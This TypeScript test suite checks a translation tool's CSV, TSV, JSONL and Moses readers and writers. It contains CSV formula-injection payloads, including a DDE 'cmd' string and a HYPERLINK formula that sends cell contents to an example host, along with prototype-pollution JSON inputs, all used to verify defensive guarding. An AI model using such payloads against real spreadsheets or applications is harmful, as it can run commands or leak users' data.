import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csv, csvForSpreadsheets } from '../../../src/text/formats/csv.ts'
import { readAll, writeAll, type Format } from '../../../src/text/formats/format.ts'
import { guarded, unguarded } from '../../../src/text/formats/formula-guard.ts'
import { jsonl } from '../../../src/text/formats/jsonl.ts'
import { manifest } from '../../../src/text/formats/manifest.ts'
import { moses } from '../../../src/text/formats/moses.ts'
import type { PairText } from '../../../src/text/formats/pair-text.ts'
import { tsv } from '../../../src/text/formats/tsv.ts'
import { goldenPairs, header } from './pairs.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.org/?x="&A1,"click")',
  "=cmd|'/c calc'!A1",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  '\n=1+1',
  '"=1+1',
  ' =1+1',
  "'=1",
  "''=1",
  '=1+1,"=2+2"',
  '\u061b=1+1,=2',
  '-',
  '\u200f=1',
]
const asPairs = (texts: readonly string[]) =>
  texts.map(
    (text, index) =>
      ({ id: `p${index}`, source: text, target: text, status: 'translated', notes: [text], createdBy: text }) as const,
  )
const write = (format: Format, pairs: readonly PairText[] = asPairs(formulas)) =>
  writeAll(format, header, pairs, manifest(format, header, pairs.length, []))[0]!
const textsOf = (format: Format, text: string) =>
  readAll(format, text).pairs.map(({ source, target }) => [source, target])
const problemsOf = (format: Format, text: string) =>
  readAll(format, text).problems.map(({ line, effect, sentence }) => [line, effect, sentence])

describe('a table for spreadsheets', () => {
  it('has no cell that begins as a formula does', () => {
    const cells: string[][] = parse(write(csvForSpreadsheets), { bom: true })
    expect(cells).toHaveLength(formulas.length + 1)
    expect(cells.flat().filter(cell => /^(?:[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(cell))).toEqual([])
  })

  it('begins with a byte order mark and ends its lines with CRLF', () => {
    const text = write(csvForSpreadsheets, [])
    expect(text.startsWith('\ufeffSource,Target,')).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  it('gives every formula back as the text it was, by the reader of either kind', () => {
    for (const format of [csv, csvForSpreadsheets]) {
      expect(textsOf(format, write(csvForSpreadsheets))).toEqual(formulas.map(text => [text, text]))
    }
  })

  it('guards so that every text comes back', () => {
    const cell = fc.array(fc.constantFrom("'", '=', '-', ' ', '\t', 'ن', 'a')).map(parts => parts.join(''))
    fc.assert(
      fc.property(cell, text => {
        expect(unguarded(guarded(text))).toBe(text)
        expect(guarded(text)).not.toMatch(/^\s*[=-]/)
      }),
      { seed: 8, numRuns: 1000 },
    )
  })
})

describe('a table for machines', () => {
  it('is exact: nothing is put before a formula and nothing taken away', () => {
    expect(write(csv)).toContain('\np0,=1+1,=1+1,')
    expect(textsOf(csv, write(csv))).toEqual(formulas.map(text => [text, text]))
  })

  it('marks drafts and pairs sent back as fuzzy, as other tools expect', () => {
    const fuzzy = write(csv, goldenPairs)
      .split('\n')
      .filter(line => line.includes(',True,'))
    expect(fuzzy.map(line => line.split(',')[0])).toEqual(['doc1-s5', 'doc1-s6'])
  })
})

describe('a comma-separated table from elsewhere', () => {
  it('may be separated by semicolons or tabs, but never by Arabic commas', () => {
    expect(textsOf(csv, 'source;target\nنعم، نعم;Yes, yes\n')).toEqual([['نعم، نعم', 'Yes, yes']])
    expect(textsOf(csv, 'source\ttarget\r\nنعم\tYes\r\n')).toEqual([['نعم', 'Yes']])
    expect(textsOf(csv, 'source,target\nنعم، نعم؛ نعم,Yes\n')).toEqual([['نعم، نعم؛ نعم', 'Yes']])
  })

  it('may name its columns in Arabic or by language, or not at all', () => {
    expect(textsOf(csv, 'English,العربية\nYes,نعم\n')).toEqual([['نعم', 'Yes']])
    expect(textsOf(csv, 'en,ar\nYes,نعم\n')).toEqual([['نعم', 'Yes']])
    expect(textsOf(csv, 'نعم,Yes\n')).toEqual([['نعم', 'Yes']])
  })

  it('may name columns after what every object has', () => {
    expect(textsOf(csv, '__proto__,constructor\nنعم,Yes\n')).toHaveLength(2)
  })

  it('keeps an apostrophe before a formula when the table is not ours', () => {
    expect(textsOf(csv, "source,target\n'=1,x\n")).toEqual([["'=1", 'x']])
  })

  it('keeps a lone quotation mark inside a cell as text', () => {
    expect(textsOf(csv, 'source,target\nجملة "نص,a "b" c\n')).toEqual([['جملة "نص', 'a "b" c']])
  })

  it('with an open quotation mark names its line', () => {
    expect(problemsOf(csv, 'source,target\nنعم,Yes\nلا,"No\n\n')).toEqual([
      [3, 'stopped', 'A quotation mark opened in this line is never closed.'],
    ])
    expect(problemsOf(csv, `source,target\n"${'x'.repeat(1_000_001)}`)).toEqual([
      [2, 'stopped', 'A cell that begins here is too long; perhaps its closing quotation mark is missing.'],
    ])
  })

  it('with ragged rows loses those and tells of each, on its own line', () => {
    expect(problemsOf(csv, 'source,target\n"أ\nب",a\nأ,b,c\nأ\nأ"ب",c\n"أ"ب,c\n')).toEqual([
      [4, 'skipped', 'This row has 3 columns instead of 2.'],
      [5, 'skipped', 'This row has 1 column instead of 2.'],
      [7, 'skipped', 'Text follows a closing quotation mark in this row.'],
    ])
  })

  it('may not have endless columns', () => {
    expect(problemsOf(csv, `a,b\n${'x,'.repeat(100_000)}`)).toEqual([
      [2, 'stopped', 'This row has more than 200 columns; nothing after it was read.'],
    ])
  })

  it('counts lines ended by CR, LF and CRLF alike', () => {
    expect(problemsOf(csv, 'source,target\rأ,a\r\nأ,a\nأ\r\n')).toEqual([
      [4, 'skipped', 'This row has 1 column instead of 2.'],
    ])
  })

  it('counts the lines inside a quoted cell', () => {
    expect(problemsOf(csv, 'source,target\n"أ\rب\nج\r\nد",a\nأ\n')).toEqual([
      [6, 'skipped', 'This row has 1 column instead of 2.'],
    ])
  })

  it('says of a last line without an end that it may be cut', () => {
    expect(problemsOf(csv, 'source,target\nنعم,Ye')).toEqual([
      [2, 'noted', 'The last line has no line end. If the file was cut short, its last pair is not whole.'],
    ])
    expect(problemsOf(csv, 'source,target\nنع')).toEqual([
      [2, 'stopped', 'The file ends inside this row: it has 1 of 2 columns.'],
    ])
  })

  it('with unknown statuses and orders keeps the pair and tells', () => {
    expect(readAll(csv, 'source,target,state,order\nنعم,Yes,Blessed,first\n')).toMatchObject({
      pairs: [{ status: 'translated' }],
      problems: [
        { sentence: 'The status “Blessed” is not known.' },
        { sentence: 'The order “first” is not a whole number.' },
      ],
    })
  })
})

describe('a table with tabs', () => {
  it('has the two texts first and the same number of columns in every line', () => {
    const lines = write(tsv, goldenPairs).trimEnd().split('\n')
    expect(lines).toHaveLength(13)
    expect(new Set(lines.map(line => line.split('\t').length))).toEqual(new Set([12]))
    expect(lines[1]!.split('\t').slice(0, 2)).toEqual([goldenPairs[0]!.source, goldenPairs[0]!.target])
  })

  it('reads two bare columns, CRLF and a byte order mark', () => {
    expect(textsOf(tsv, '\ufeffنعم\tYes\r\n\r\nسطر\\nثان\tline\\ttab\\\\n\r\n')).toEqual([
      ['نعم', 'Yes'],
      ['سطر\nثان', 'line\ttab\\n'],
    ])
  })

  it('stops at a line without end', () => {
    expect(problemsOf(tsv, `نعم\tYes\n${'x'.repeat(1_000_001)}`)).toEqual([
      [2, 'stopped', 'This line is too long to be a pair; nothing after it was read.'],
    ])
  })
})

describe('lines of JSON', () => {
  it('are read by our names, by language, and as translation objects', () => {
    const lines = [
      '{"source":"نعم","target":"Yes"}',
      '{"ar":"لا","en":"No"}',
      '',
      '{"translation":{"ar":"ربما","en":"Maybe"},"id":7}',
    ]
    expect(textsOf(jsonl, lines.join('\n'))).toEqual([
      ['نعم', 'Yes'],
      ['لا', 'No'],
      ['ربما', 'Maybe'],
    ])
  })

  it('that are broken are told of, and the others read', () => {
    expect(problemsOf(jsonl, '{"ar":"أ"\n[1]\n{"ar":1}\n{"ar":"\\ud800"}\n{"ar":"أ","en":"a"}\n')).toEqual([
      [1, 'skipped', 'This line is not a JSON object.'],
      [2, 'skipped', 'This line is not a JSON object.'],
      [3, 'skipped', 'This object has no text under “source” and “target”, nor under “ar” and “en”.'],
      [4, 'skipped', 'This object holds half a character (a lone surrogate), which no file can hold.'],
    ])
  })

  it('that name a prototype change nothing but themselves', () => {
    const lines = ['{"__proto__":{"source":"x","polluted":1},"ar":"أ","en":"a"}', '{"__proto__":{"ar":"x"},"en":"b"}']
    expect(textsOf(jsonl, lines.join('\n'))).toEqual([['أ', 'a']])
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})

describe('a pair of text files', () => {
  it('keeps its place over a line that is blank on both sides', () => {
    const { pairs } = readAll(moses, ['أ\n\nج\n', 'a\n\nc\n'])
    expect(pairs.map(({ id, source, target }) => [id, source, target])).toEqual([
      ['1', 'أ', 'a'],
      ['3', 'ج', 'c'],
    ])
  })

  it('of different lengths is told of, whichever is shorter', () => {
    expect(problemsOf(moses, 'أ\n')).toEqual([[1, 'stopped', 'The first file has 1 line, the second only 0.']])
    expect(readAll(moses, ['أ\n', 'a\nb\nc\n']).problems).toMatchObject([
      { sentence: 'The second file has 3 lines, the first only 1.' },
    ])
  })

  it('has one line for each pair, whatever line ends its texts hold', () => {
    const pairs = asPairs(['أ\nب', 'أ\u2028ب', 'أ\u0085\u000b\fب', 'أ\r\nب'])
    const files = writeAll(moses, header, pairs, manifest(moses, header, 4, []))
    expect(files[0]).toBe('أ ب\nأ ب\nأ   ب\nأ  ب\n')
    expect(moses.files('book.ar-en', header)).toEqual(['book.ar-en.ar', 'book.ar-en.en'])
  })
})
